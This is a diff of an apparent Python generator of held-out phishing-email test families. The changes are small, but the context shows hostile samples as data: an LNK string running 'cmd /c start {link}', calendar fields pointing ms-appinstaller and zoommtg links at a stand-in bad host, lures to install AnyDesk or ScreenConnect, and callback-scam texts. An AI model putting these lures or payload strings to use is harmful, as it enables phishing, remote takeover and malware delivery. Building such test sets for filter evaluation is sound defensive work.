@@ -58,7 +58,7 @@ LNK = "L\x00\x00\x00\x01\x14\x02\x00 cmd /c start {link}"
 
 
 FAMILIES = [
-    heldout(1, "tollentry", attacks=[1, 34, 28], by="apple-mail java-site zimbra", sender="vps", place="today", **held("toll")),
+    heldout(1, "tollentry", attacks=[1, 34, 28], by="apple-mail java-site zimbra", sender="vps", place="soon", **held("toll")),
     heldout(1, "wirebr", attacks=[1, 34], by="roundcube php-site", sender="vps", **held("pixpt")),
     heldout(1, "nlentry", attacks=[1, 34], by="open-xchange kit-node", sender="freemail", place="soon", **held("digidnl")),
     heldout(8, "gbetting", attacks=[8, 34], by="google", sender="freemail", place="evening", **held("betting")),
@@ -95,7 +95,7 @@ FAMILIES = [
     heldout(38, "scheme", attacks=[38], by="kit-node java-site", sender="junk", do=S.add("CONFERENCE;VALUE=URI:zoommtg://{badhost}/join?confno={num}", "URL:ms-appinstaller:?source=https://{badhost}/meet.appx", "X-MS-OLK-MWSURL:{link}"), summary=["Press briefing", "Due diligence call"], text=["Zoom opens by itself.", "Accept the prompt of the browser."]),
     heldout(38, "anydesk", attacks=[38], by="thunderbird webex", sender="company", summary=["Audit of your accounting PC", "Bank integration setup"], text=["For the audit keep AnyDesk ready: {link}/anydesk-custom.exe and tell us the address shown.", "Our bank technician connects with ScreenConnect: {link}/support.ClientSetup.msi"]),
     heldout(39, "germancallback", attacks=[39], by="outlookcom icloud", sender="freemail", **held("virende")),
-    heldout(39, "primeorder", attacks=[39], by="icloud zoom fastmail", sender="freemail", **held("primecall")),
+    heldout(39, "primeorder", attacks=[39], by="icloud yahoo fastmail", sender="freemail", **held("primecall")),
     heldout(39, "spelledout", attacks=[39], by="m365 apple-mail", sender="tenant", do=spelled, who=["Trust Account", "Coin Desk", "Renewal Board"], summary=["Receipt {order}", "{amount} from your wallet"],
             text=["Receipt for {amount}. Our people answer at PHONE.", "A coin purchase of {amount} awaits. Reject it by voice: PHONE", "Hosting for three years, {amount}. PHONE is open day and night for objections."]),
     heldout(39, "license", attacks=[39], by="m365 calendly", sender="tenant", **held("license365")),
